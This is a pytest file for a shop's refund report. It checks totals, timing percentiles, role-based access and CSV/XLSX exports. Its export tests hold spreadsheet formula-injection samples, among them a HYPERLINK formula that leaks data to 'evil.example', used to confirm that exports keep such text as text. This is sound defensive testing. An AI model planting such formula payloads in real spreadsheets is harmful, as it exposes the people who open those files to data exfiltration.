"""The refund report's SQL agrees with the same figures counted in Python from the rows."""

from __future__ import annotations

import csv
import io
import math
import zipfile
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import httpx
import openpyxl
import pytest

from aftersales.core import clock
from aftersales.core.models import Role, User
from aftersales.core.periods import Period
from aftersales.core.reasons import QUALITY_REASONS
from aftersales.orders.models import Order, OrderItem
from aftersales.refunds import export, service
from aftersales.refunds.models import LedgerEntry, Refund, RefundStatus
from aftersales.refunds.report import refund_report
from connectors.base import AfterSaleStatus, RefundDecision, RefundWriteResult
from tests.conftest import sign_in
from tests.factories import create_hostile_shop, create_store, create_user
from tests.orders.test_api import bearer
from tests.refunds.test_service import NOW, demo_shop, open_request

pytestmark = pytest.mark.usefixtures("clean_db")
ZONE = ZoneInfo("Asia/Shanghai")


def nearest_rank(values: list[float], share: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return ordered[math.ceil(share * len(ordered)) - 1]


async def shop_with_desk_refunds() -> None:
    """The demo shop, plus refunds decided and paid through the desk by two agents."""
    await demo_shop(rules={"supervisor_above": None})  # saved without caps: both agents decide
    agents = [await create_user(username="王", role=Role.SUPERVISOR), await create_user()]
    for n, refund in enumerate(await Refund.filter(status=RefundStatus.REQUESTED)):
        clock.travel(timedelta(hours=3))
        await service.approve(refund.id, actor=agents[n % 2], amount="1.00" if n % 3 else None)
        if n % 4:
            await service.start_writeback(refund.id)
            await service.finish_writeback(
                refund.id,
                RefundDecision.APPROVE,
                RefundWriteResult(status=AfterSaleStatus.REFUNDED, platform_status="SUCCESS"),
            )


async def test_totals_and_breakdowns_match_the_rows() -> None:
    await shop_with_desk_refunds()
    period = Period(NOW - timedelta(days=30), clock.now() + timedelta(hours=1))
    report = await refund_report(period, zone=ZONE)

    entries = [e for e in await LedgerEntry.all() if period.start <= e.at < period.end]
    assert entries, "the period has money going back"
    assert report.totals.refunded == sum((e.amount for e in entries), Decimal(0))
    assert report.totals.refunds == len({e.refund_id for e in entries})
    orders = [o for o in await Order.all() if o.paid_at and period.start <= o.paid_at < period.end]
    assert report.totals.paid == sum((o.paid_amount for o in orders), Decimal(0))
    assert report.totals.paid_orders == len(orders)
    assert report.totals.order_rate == pytest.approx(
        len({e.order_id for e in entries}) / len(orders)
    )
    refunds = {r.id: r for r in await Refund.all()}
    paid_refunds = [
        r
        for r in refunds.values()
        if r.status is RefundStatus.REFUNDED and period.start <= r.refunded_at < period.end
    ]
    assert report.totals.quality == sum(r.reason in QUALITY_REASONS for r in paid_refunds)

    by_reason: dict[str, Decimal] = defaultdict(Decimal)
    by_agent: dict[str, Decimal] = defaultdict(Decimal)
    by_item: dict[int | None, Decimal] = defaultdict(Decimal)
    users = {u.id: u.username for u in await User.all()}
    for e in entries:
        refund = refunds[e.refund_id]
        by_reason[refund.reason.value] += e.amount
        by_agent[users.get(refund.decided_by_id, "")] += e.amount
        by_item[e.order_item_id] += e.amount
    assert {r.key: r.amount for r in report.groups["reason"] if r.refunds} == dict(by_reason)
    assert {r.key: r.amount for r in report.groups["agent"] if r.refunds} == dict(by_agent)
    assert "王" in {r.key for r in report.groups["agent"]}
    items = {i.id: f"{i.title} / {i.sku or ''}" for i in await OrderItem.all()}
    want_sku: dict[str, Decimal] = defaultdict(Decimal)
    for item_id, amount in by_item.items():
        want_sku[items[item_id] if item_id else " / "] += amount
    assert {r.key: r.amount for r in report.groups["sku"] if r.refunds} == dict(want_sku)
    assert sum((r.amount for r in report.series), Decimal(0)) == report.totals.refunded
    days = [r.key for r in report.series]
    assert days == sorted(days) and all(len(d) == 10 for d in days)


async def test_timing_is_the_nearest_rank_median_and_p90() -> None:
    await shop_with_desk_refunds()
    period = Period(NOW - timedelta(days=30), clock.now() + timedelta(hours=1))
    report = await refund_report(period, zone=ZONE)
    decided = [
        (r.decided_at - r.requested_at).total_seconds() / 3600
        for r in await Refund.all()
        if r.decided_at and period.start <= r.decided_at < period.end
    ]
    assert report.timing.decided == len(decided) > 0
    assert report.timing.decision_median_hours == pytest.approx(nearest_rank(decided, 0.5))
    assert report.timing.decision_p90_hours == pytest.approx(nearest_rank(decided, 0.9))
    paid = [
        (r.refunded_at - r.requested_at).total_seconds() / 3600
        for r in await Refund.all()
        if r.refunded_at and period.start <= r.refunded_at < period.end
    ]
    assert report.timing.money_p90_hours == pytest.approx(nearest_rank(paid, 0.9))


async def test_the_previous_period_and_weekly_buckets() -> None:
    await shop_with_desk_refunds()
    end = clock.now() + timedelta(hours=1)
    period = Period(end - timedelta(days=14), end)
    report = await refund_report(period, zone=ZONE, grain="week")
    before = [e for e in await LedgerEntry.all() if period.previous.start <= e.at < period.start]
    assert report.previous.refunded == sum((e.amount for e in before), Decimal(0))
    assert all(datetime.fromisoformat(r.key).weekday() == 0 for r in report.series), (
        "weeks start on Monday"
    )
    reasons_before = sum((r.previous_amount for r in report.groups["reason"]), Decimal(0))
    assert reasons_before == report.previous.refunded


async def test_a_refund_the_platform_agreed_after_our_deadline_is_listed_as_a_miss() -> None:
    store = await demo_shop()
    refund = await Refund.filter(status=RefundStatus.REQUESTED).first()
    late = refund.due_at + timedelta(minutes=10)
    await Refund.filter(id=refund.id).update(
        status=RefundStatus.REFUNDED, refunded_at=late, auto_agreed=True, approved_amount=Decimal(1)
    )
    report = await refund_report(
        Period(late - timedelta(days=1), late + timedelta(days=1)), zone=ZONE, store_id=store.id
    )
    assert [m.refund_id for m in report.misses] == [refund.id]
    assert report.totals.auto_agreed == 1


def test_a_period_must_make_sense() -> None:
    with pytest.raises(service.InvalidInput):
        Period(NOW, NOW)
    with pytest.raises(service.InvalidInput):
        Period(NOW - timedelta(days=800), NOW)
    assert Period(NOW - timedelta(days=7), NOW).previous == Period(
        NOW - timedelta(days=14), NOW - timedelta(days=7)
    )
    assert NOW.tzinfo is UTC


async def test_owners_read_the_report_page_with_charts_and_agents_do_not(
    client: httpx.AsyncClient, app
) -> None:
    await shop_with_desk_refunds()
    await create_user(username="owner", role=Role.OWNER)
    await create_user(username="agent", role=Role.AGENT)
    await sign_in(client, "agent")
    assert (await client.get("/refunds/report")).status_code == 403
    assert 'href="/refunds/report"' not in (await client.get("/refunds/")).text
    client.cookies.clear()
    await sign_in(client, "owner")
    today = clock.now().astimezone(ZONE).date()
    page = await client.get(f"/refunds/report?from={today - timedelta(days=29)}&to={today}")
    assert page.status_code == 200
    assert page.text.count("<svg") == 2 and "<script" not in page.text
    result = await refund_report(Period(*_days(today - timedelta(days=29), today)), zone=ZONE)
    assert f"¥{result.totals.refunded:,.2f}" in page.text
    bad = await client.get("/refunds/report?from=yesterday", follow_redirects=True)
    assert "Dates are written YYYY-MM-DD." in bad.text


def _days(first, last) -> tuple[datetime, datetime]:
    start = datetime.combine(first, datetime.min.time(), tzinfo=ZONE).astimezone(UTC)
    end = datetime.combine(last + timedelta(days=1), datetime.min.time(), tzinfo=ZONE)
    return start, end.astimezone(UTC)


async def test_every_table_exports_as_csv_and_all_as_xlsx(client: httpx.AsyncClient, app) -> None:
    await shop_with_desk_refunds()
    await create_user(username="owner", role=Role.OWNER)
    await sign_in(client, "owner")
    today = clock.now().astimezone(ZONE).date()
    query = f"from={today - timedelta(days=29)}&to={today}"
    result = await refund_report(Period(*_days(today - timedelta(days=29), today)), zone=ZONE)
    for table in ("summary", "series", "reason", "sku", "store", "agent", "misses"):
        answer = await client.get(f"/refunds/report/{table}.csv?{query}")
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
        expected = {"summary": 14, "series": len(result.series), "misses": len(result.misses)}
        assert len(rows) - 1 == expected.get(table, len(result.groups.get(table, [])))
    reason_rows = list(
        csv.reader(io.StringIO((await client.get(f"/refunds/report/reason.csv?{query}")).text))
    )
    assert sum(Decimal(r[1]) for r in reason_rows[1:]) == result.totals.refunded
    assert (await client.get(f"/refunds/report/nothing.csv?{query}")).status_code == 404
    book = await client.get(f"/refunds/report.xlsx?{query}")
    assert book.status_code == 200
    with zipfile.ZipFile(io.BytesIO(book.content)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
        assert all(name in workbook for name in ("Summary", "By reason", "Missed deadlines"))
        assert len([n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]) == 7


async def test_the_report_api_groups_as_asked(client: httpx.AsyncClient, app) -> None:
    await shop_with_desk_refunds()
    headers = await bearer(Role.OWNER)
    today = clock.now().astimezone(ZONE).date()
    query = f"from={today - timedelta(days=29)}&to={today}"
    result = await refund_report(Period(*_days(today - timedelta(days=29), today)), zone=ZONE)
    body = (
        await client.get(f"/api/v1/reports/refunds?{query}&group_by=reason", headers=headers)
    ).json()
    assert body["totals"]["refunded"] == f"{result.totals.refunded:.2f}"
    assert {i["key"]: i["refunded"] for i in body["items"]} == {
        r.key: f"{r.amount:.2f}" for r in result.groups["reason"]
    }
    days = (
        await client.get(f"/api/v1/reports/refunds?{query}&group_by=day", headers=headers)
    ).json()
    assert [i["key"] for i in days["items"]] == [r.key for r in result.series]
    bad = await client.get("/api/v1/reports/refunds?group_by=colour", headers=headers)
    assert bad.status_code == 400
    agent = await client.get("/api/v1/reports/refunds", headers=await bearer(Role.AGENT))
    assert agent.status_code == 403


async def _sign_in_owner(client: httpx.AsyncClient) -> None:
    await create_user(username="owner", role=Role.OWNER)
    await sign_in(client, "owner")


async def test_a_percent_sign_in_a_title_or_the_url_does_not_break_the_report(
    client: httpx.AsyncClient, app
) -> None:
    clock.travel(NOW - clock.now())
    await create_hostile_shop(now=NOW, text="100% cotton tee")
    await _sign_in_owner(client)
    page = await client.get("/refunds/report")
    assert page.status_code == 200
    assert page.text.count("100% cotton tee") > 2, "products and the store, as they are named"
    products = await client.get("/refunds/report/sku.csv")
    assert products.status_code == 200
    assert "100% cotton tee" in products.content.decode("utf-8-sig")
    assert (await client.get("/refunds/report.xlsx")).status_code == 200
    missing = await client.get("/refunds/report/100%25.csv")
    assert missing.status_code == 404
    assert "There is no report table 100%." in missing.text


async def test_a_new_store_or_days_without_sales_give_an_empty_report_not_an_error(
    client: httpx.AsyncClient, app
) -> None:
    await shop_with_desk_refunds()
    new = await create_store(name="新开的店")
    await _sign_in_owner(client)
    for url in (
        f"/refunds/report?store={new.id}",
        "/refunds/report?from=2020-01-01&to=2020-01-31",
        f"/returns/report?store={new.id}",
        "/returns/report?from=2020-01-01&to=2020-01-31",
    ):
        page = await client.get(url)
        assert page.status_code == 200, url
    empty = await client.get(f"/refunds/report?store={new.id}&grain=week")
    assert "No refunds in this period." in empty.text and empty.text.count("<svg") == 2
    # The desk paid refunds on the day after the demo's last sale: money went back,
    # nobody paid for an order, so the refund rate has nothing to divide by.
    day = (NOW.astimezone(ZONE) + timedelta(days=1)).date()
    result = await refund_report(Period(*_days(day, day)), zone=ZONE)
    assert result.totals.refunded > 0 and result.totals.paid_orders == 0
    for url in (f"/refunds/report?from={day}&to={day}", f"/returns/report?from={day}&to={day}"):
        page = await client.get(url)
        assert page.status_code == 200, url
    page = await client.get(f"/refunds/report?from={day}&to={day}")
    assert f"¥{result.totals.refunded:,.2f}" in page.text and page.text.count("<svg") == 2
    assert (await client.get(f"/refunds/report/series.csv?from={day}&to={day}")).status_code == 200


FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'


async def test_exports_keep_formula_looking_text_as_text_and_numbers_as_numbers(
    client: httpx.AsyncClient, app
) -> None:
    clock.travel(NOW - clock.now())
    await create_hostile_shop(now=NOW, text=FORMULA)  # titles, SKUs, the store's name
    agent = await create_user(username="-1+1", role=Role.SUPERVISOR)
    refund = await open_request()
    await service.approve(refund.id, actor=agent)
    await service.start_writeback(refund.id)
    await service.finish_writeback(
        refund.id,
        RefundDecision.APPROVE,
        RefundWriteResult(status=AfterSaleStatus.REFUNDED, platform_status="SUCCESS"),
    )
    await _sign_in_owner(client)

    def rows_of(table: str) -> list[list[str]]:
        return list(csv.reader(io.StringIO(answers[table].content.decode("utf-8-sig"))))

    answers = {t: await client.get(f"/refunds/report/{t}.csv") for t in ("sku", "store", "agent")}
    product = [r for r in rows_of("sku")[1:] if FORMULA in r[0]]
    assert product and all(r[0].startswith("'" + FORMULA) for r in product)
    assert all(Decimal(r[1]) >= 0 and r[2].isdecimal() for r in product), "amounts stay numbers"
    assert [r[0] for r in rows_of("store")[1:]] == ["'" + FORMULA]
    assert "'-1+1" in [r[0] for r in rows_of("agent")[1:]]

    book = openpyxl.load_workbook(io.BytesIO((await client.get("/refunds/report.xlsx")).content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    texts = {c.value for c in cells if c.data_type == "s"}
    assert FORMULA in texts and "-1+1" in texts, "the data is there, as text"
    by_product = book["By product"]
    for row in by_product.iter_rows(min_row=2):
        assert row[0].data_type == "s"
        assert all(c.data_type == "n" for c in row[1:]), "amounts and counts are numbers"


def test_only_text_cells_are_guarded_negative_amounts_stay_numbers() -> None:
    starts = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    table = (["Group", "Refunded", "Refunds"], [[s, Decimal("-5.00"), -3] for s in starts])
    rows = list(csv.reader(io.StringIO(export.to_csv(table).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + s for s in starts]
    assert {(r[1], r[2]) for r in rows[1:]} == {("-5.00", "-3")}
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx({"reason": table}, {})))
    sheet = book.active
    # xlsxwriter stores a carriage return as the OOXML escape _x000D_, which Excel
    # reads back as \r and openpyxl leaves as it is.
    shown = [sheet.cell(r, 1).value.replace("_x000D_", "\r") for r in range(2, 8)]
    assert shown == starts
    assert {sheet.cell(r, 1).data_type for r in range(2, 8)} == {"s"}
    assert {(sheet.cell(r, 2).value, sheet.cell(r, 3).value) for r in range(2, 8)} == {(-5, -3)}
